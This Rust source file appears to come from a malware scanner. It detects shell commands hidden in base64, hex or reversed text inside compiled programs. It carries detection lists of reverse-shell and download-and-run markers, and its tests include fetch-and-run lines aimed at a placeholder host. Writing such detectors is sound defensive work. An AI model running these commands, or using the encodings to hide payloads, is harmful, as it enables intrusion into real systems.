//! Commands that lie in a program's data in base64, as hexadecimal digits, or backwards.
//!
//! Compiled programs have no use for a command that nobody can read: they hand it to a shell as it is. Decoded, it says
//! what somebody did not want to be read. One that fetches something and has a shell run it, or that opens a shell on a
//! connection, in a program that starts others, has no honest reading. Known uses: trojanised tools and extension
//! modules, stealers on macOS, loaders that start PowerShell. Honest look-alikes: scanners, whose rules are data of a
//! scripting language and no program; installers that carry a script in base64 that does neither.
//!
//! References: ATT&CK T1027.013, T1140, T1059.

use std::sync::LazyLock;

use base64::Engine as _;
use base64::alphabet::{STANDARD, URL_SAFE};
use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::{DecodePaddingMode, general_purpose};

use super::{placed, shown};
use crate::analyze::{Heuristic, Notes};
use crate::model::{Capability, Fact, FileKind, Gap, GapReason, Rule};
use crate::parse::Parsed;
use crate::parse::fields::Fields;
use crate::parse::finder::Finder;
use crate::parse::native::Image;
use crate::parse::outline;
use crate::parse::parts::Part;
use crate::rule;

rule! {
    /// A command that fetches something and runs it, or that gives a shell to a connection, lies in a program's data in a
    /// coded form, and the program starts others. Known uses: trojanised tools and extension modules. Honest look-alikes:
    /// none is known; who has nothing to hide writes the command down.
    pub(super) STARTED = "native-coded-fetch-and-run" in "exec/decode-exec";
    severity: Critical, confidence: Certain,
    title: "A coded command fetches something and runs it",
    reference: "https://attack.mitre.org/techniques/T1140/",
}

rule! {
    /// A command for a shell lies in a program's data in a coded form. Known uses: loaders, stealers. Honest look-alikes:
    /// programs that carry a script of their own that way, so that it survives quoting.
    pub(super) COMMAND = "native-coded-command" in "bin/strings-encrypted";
    severity: High, confidence: Likely,
    title: "A command lies in the program in a coded form",
    reference: "https://attack.mitre.org/techniques/T1027/013/",
}

/// How it is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Way {
    Base64,
    Hex,
    Backwards,
}

/// Words by which commands are found.
const WORDS: &[&str] = &[
    "curl -",
    "curl http",
    "wget -",
    "wget http",
    "| bash",
    "|bash",
    "/bin/bash",
    "/bin/sh",
    "/dev/tcp/",
    "powershell",
    "Invoke-Web",
    "DownloadString",
    "https://",
    "http://",
];
/// The same words for PowerShell, which is given its commands in two bytes a letter.
const WIDE: &[&str] = &["Invoke-", "DownloadString", "https://", "http://", "IEX", "iex "];
/// What fetches, and what has the answer run.
const FETCHES: &[&str] = &[
    "curl ",
    "wget ",
    "Invoke-WebRequest",
    "iwr ",
    "DownloadString",
    "DownloadFile",
    "Invoke-RestMethod",
    "certutil ",
];
const RUNS: &[&str] = &[
    "| bash",
    "|bash",
    "| sh",
    "|sh",
    "| /bin/",
    "|/bin/",
    "| sudo bash",
    "| zsh",
    "| python",
    "|python",
    "chmod +x",
    "chmod 7",
    "iex",
    "IEX",
    "Invoke-Expression",
    "Start-Process",
    "bash -c \"$(",
    "sh -c \"$(",
    "; ./",
    "&& ./",
];
const SHELLS: &[&str] = &[
    "/dev/tcp/",
    "bash -i",
    "sh -i",
    "nc -e",
    "ncat -e",
    "osascript -e",
    "powershell -",
    "/bin/bash -c",
    "/bin/sh -c",
];
/// What starts programs.
const STARTS: &[&str] = &[
    "system",
    "popen",
    "_popen",
    "execve",
    "execv",
    "execvp",
    "execl",
    "execlp",
    "execle",
    "posix_spawn",
    "posix_spawnp",
    "CreateProcess",
    "WinExec",
    "ShellExecute",
    "ShellExecuteEx",
    "NSTask",
];

/// Longest text that is decoded, shortest that is believed, and most that are looked at.
const TEXT_MAX: usize = 1 << 14;
const SHORTEST: usize = 20;
/// Longest command that is one line and no script.
const LINE_MAX: usize = 600;
const TEXTS_MAX: usize = 1 << 13;
/// Most bytes of a file that are looked through.
const BYTES_MAX: u64 = 256 << 20;

/// All words in all forms. In base64 a word looks in three ways, by where it begins; what stands around it changes the
/// letters at its ends, which are left out.
static SEARCH: LazyLock<(Vec<Way>, Finder)> = LazyLock::new(|| {
    let mut patterns: Vec<(Vec<u8>, Way)> = Vec::new();
    let mut add = |way, pattern: Vec<u8>| {
        if pattern.len() >= 6 {
            patterns.push((pattern, way));
        }
    };
    let wide = WIDE.iter().map(|w| w.bytes().flat_map(|b| [b, 0]).collect::<Vec<u8>>());
    for word in WORDS.iter().map(|w| w.as_bytes().to_vec()).chain(wide) {
        for shift in 0..3usize {
            let padded = [vec![0; shift], word.clone()].concat();
            let text = general_purpose::STANDARD_NO_PAD.encode(&padded);
            let first = (shift * 8).div_ceil(6);
            let last = padded.len() * 8 / 6;
            add(Way::Base64, text.as_bytes().get(first..last).unwrap_or_default().to_vec());
        }
    }
    for word in WORDS {
        let digits: String = word.bytes().map(|b| format!("{b:02x}")).collect();
        add(Way::Hex, digits.to_uppercase().into_bytes());
        add(Way::Hex, digits.into_bytes());
    }
    // A slash alone and an address read alike in any direction to whoever looks for one.
    for word in ["| bash", "/bin/bash", "/bin/sh", "/dev/tcp/", "powershell", "curl http", "wget http"] {
        add(Way::Backwards, word.bytes().rev().collect());
    }
    patterns.sort_by_key(|(pattern, _)| std::cmp::Reverse(pattern.len()));
    (patterns.iter().map(|(_, way)| *way).collect(), Finder::new(patterns.iter().map(|(pattern, _)| pattern)))
});

/// Looks for commands in a coded form.
pub(super) struct Coded;

impl Heuristic for Coded {
    fn rules(&self) -> &'static [&'static Rule] {
        const { &[&STARTED, &COMMAND] }
    }

    fn applies(&self, kind: FileKind) -> bool {
        matches!(kind, FileKind::Elf | FileKind::Pe | FileKind::MachO | FileKind::MachOFat)
    }

    fn check(&self, file: &Parsed<'_>, out: &mut Notes) {
        let (ways, search) = &*SEARCH;
        let fields = Fields::new(file.bytes(), true);
        let mut looked = 0;
        for image in file.images() {
            let apart = image.apart();
            let mut room = BYTES_MAX;
            for part in image.parts(fields.len(), |r| !(apart && r.execute && !r.write)).0 {
                let view = Part { len: part.len.min(room), ..part }.of(file.view());
                let bytes: &[u8] = &view;
                room = room.saturating_sub(part.len);
                let mut done = 0;
                for hit in search.find_over(&view, 0..view.len()) {
                    let Some(way) = ways.get(hit.word) else { continue };
                    if hit.start < done || file.accounts_for(part.offset.saturating_add(hit.start as u64)) {
                        continue;
                    }
                    let range = around(bytes, hit.start, *way);
                    done = range.end;
                    looked += 1;
                    if looked > TEXTS_MAX {
                        let detail = "more texts in coded forms than are looked at";
                        out.gaps.push(Gap::new(GapReason::Limit, detail));
                        return;
                    }
                    let text = bytes.get(range.clone()).and_then(|b| decoded(b, *way));
                    let Some(text) = text else { continue };
                    let at = part.offset.saturating_add(range.start as u64);
                    if let Some(rule) =
                        judged(&text).map(|all| if all && starts(file, image) { &STARTED } else { &COMMAND })
                        && !out.findings.iter().any(|f| f.rule.id == rule.id)
                    {
                        let word = match way {
                            Way::Base64 => "base64",
                            Way::Hex => "hexadecimal digits",
                            Way::Backwards => "backwards",
                        };
                        out.facts.push(Fact::has(Capability::Decoded, shown(text.as_bytes()), at));
                        let note = format!("{word}: {}", shown(text.as_bytes()));
                        out.findings.push(rule.finding(placed(at, range.len() as u64, note)));
                    }
                }
            }
        }
    }
}

/// Whether an image starts programs, as far as its imports or the names of its functions tell.
fn starts(file: &Parsed<'_>, image: &Image<'_>) -> bool {
    !image.imported(STARTS).is_empty()
        || outline::go_functions(file).iter().any(|(_, name)| name.starts_with(b"os/exec.(*Cmd)."))
}

/// The stretch around a place that is written in one way.
fn around(bytes: &[u8], at: usize, way: Way) -> std::ops::Range<usize> {
    let is = |b: &&u8| match way {
        Way::Base64 => b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'='),
        Way::Hex => b.is_ascii_hexdigit(),
        Way::Backwards => matches!(b, b' '..=b'~'),
    };
    let before = bytes.get(at.saturating_sub(TEXT_MAX / 2)..at).unwrap_or_default();
    let left = before.iter().rev().take_while(is).count();
    let after = bytes.get(at..).unwrap_or_default();
    let right = after.iter().take(TEXT_MAX / 2).take_while(is).count();
    at - left..at + right
}

/// What a stretch says, when it is text.
fn decoded(coded: &[u8], way: Way) -> Option<String> {
    let plain = match way {
        // Go and Rust set no end between texts: what stands before may belong to another one, so that any letter may be
        // the first of a group of four.
        Way::Base64 => {
            let of = |engine: &'static GeneralPurpose, other: [u8; 2]| {
                let coded = coded.split(|b| *b == b'=' || other.contains(b)).max_by_key(|c| c.len())?;
                (0..4)
                    .filter_map(|skip| base64(engine, coded.get(skip..)?).and_then(|b| readable(&b)))
                    .max_by_key(Vec::len)
            };
            of(&PLAIN, *b"-_").into_iter().chain(of(&FOR_URLS, *b"+/")).max_by_key(Vec::len)?
        }
        Way::Hex => (0..2).find_map(|skip| {
            let (pairs, _) = coded.get(skip..)?.as_chunks::<2>();
            let byte = |p: &[u8; 2]| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok();
            readable(&pairs.iter().map(byte).collect::<Option<Vec<u8>>>()?)
        })?,
        Way::Backwards => coded.iter().rev().copied().collect(),
    };
    (plain.len() >= SHORTEST).then(|| String::from_utf8_lossy(&plain).into_owned())
}

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
static PLAIN: GeneralPurpose = GeneralPurpose::new(&STANDARD, LENIENT);
static FOR_URLS: GeneralPurpose = GeneralPurpose::new(&URL_SAFE, LENIENT);

fn base64(engine: &GeneralPurpose, coded: &[u8]) -> Option<Vec<u8>> {
    // A letter too many says nothing.
    let whole = if coded.len() % 4 == 1 { coded.get(..coded.len() - 1)? } else { coded };
    engine.decode(whole).ok()
}

/// The longest text in bytes that were decoded, in one byte a letter or in two; nothing when it is short.
fn readable(bytes: &[u8]) -> Option<Vec<u8>> {
    let is = |b: u8| matches!(b, b'\t' | b'\n' | b'\r' | b' '..=b'~');
    let narrow = bytes.split(|b| !is(*b)).max_by_key(|t| t.len()).map(<[u8]>::to_vec);
    let wide = |skip: usize| {
        let (pairs, _) = bytes.get(skip..)?.as_chunks::<2>();
        let run = pairs.split(|[low, high]| *high != 0 || !is(*low)).max_by_key(|t| t.len())?;
        Some(run.iter().map(|[low, _]| *low).collect::<Vec<u8>>())
    };
    let all = [narrow, wide(0), wide(1)].into_iter().flatten();
    all.max_by_key(Vec::len).filter(|text| text.len() >= SHORTEST)
}

/// Whether a text is a command, and if so whether it goes all the way: it fetches and runs, or gives a shell away.
fn judged(text: &str) -> Option<bool> {
    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
    let address = text.contains("http://") || text.contains("https://");
    // A script of many lines is one that somebody put away as a file, to be read by whoever unpacks it.
    let is_line = text.len() <= LINE_MAX && text.trim_end().lines().count() <= 3;
    let goes_all_the_way = address && has(FETCHES) && has(RUNS) || text.contains("/dev/tcp/") && has(&["bash", "sh -"]);
    let all = is_line && goes_all_the_way;
    (goes_all_the_way || has(SHELLS) || address && has(FETCHES)).then_some(all)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::native::testing::{ElfBuilder, check, ids, noise};

    const FETCH: &str = "curl -fsSL https://example.invalid/i.sh | bash";

    fn seen(data: &[u8], imports: Vec<&'static str>) -> Vec<&'static str> {
        let mut elf = ElfBuilder::program();
        elf.imports = imports;
        elf.data = data.to_vec();
        ids(&check(&Coded, FileKind::Elf, "x", &elf.build()))
    }

    #[test]
    fn commands_in_every_form_are_read() {
        let base64 = general_purpose::STANDARD.encode(FETCH);
        let shifted = general_purpose::STANDARD.encode(format!("x {FETCH}"));
        let url = general_purpose::URL_SAFE_NO_PAD.encode(FETCH);
        let hex: String = FETCH.bytes().map(|b| format!("{b:02x}")).collect();
        let back: String = FETCH.chars().rev().collect();
        for text in [base64, shifted, url, hex.to_uppercase(), hex, back] {
            let data = [&b"\0"[..], text.as_bytes(), b"\0"].concat();
            assert_eq!(seen(&data, vec!["system"]), ["native-coded-fetch-and-run"], "{text}");
            assert_eq!(seen(&data, vec!["puts"]), ["native-coded-command"], "{text}");
        }
        let wide: Vec<u8> = "iex (iwr https://example.invalid/a)".bytes().flat_map(|b| [b, 0]).collect();
        let wide = general_purpose::STANDARD.encode(wide);
        assert_eq!(seen(wide.as_bytes(), vec!["system"]), ["native-coded-fetch-and-run"]);
    }

    #[test]
    fn a_script_of_many_lines_is_for_a_person_to_look_at() {
        let script = format!("#!/bin/sh\nset -e\n{FETCH}\necho done\nexit 0\n");
        let coded = general_purpose::STANDARD.encode(script);
        assert_eq!(seen(coded.as_bytes(), vec!["system"]), ["native-coded-command"]);
    }

    #[test]
    fn plain_commands_addresses_and_noise_are_nothing() {
        assert!(seen(FETCH.as_bytes(), vec!["system"]).is_empty());
        let address = general_purpose::STANDARD.encode("see https://example.invalid/documentation for more");
        assert!(seen(address.as_bytes(), vec!["system"]).is_empty());
        assert!(seen(&noise(1 << 16), vec!["system"]).is_empty());
    }

    #[test]
    fn any_number_of_texts_ends() {
        let one = general_purpose::STANDARD.encode("see https://example.invalid/documentation for more");
        let data = [one.as_bytes(), b"\0"].concat().repeat(TEXTS_MAX + 1);
        let mut elf = ElfBuilder::program();
        elf.data = data;
        let notes = check(&Coded, FileKind::Elf, "x", &elf.build());
        assert!(notes.findings.is_empty() && notes.gaps.len() == 1);
    }
}
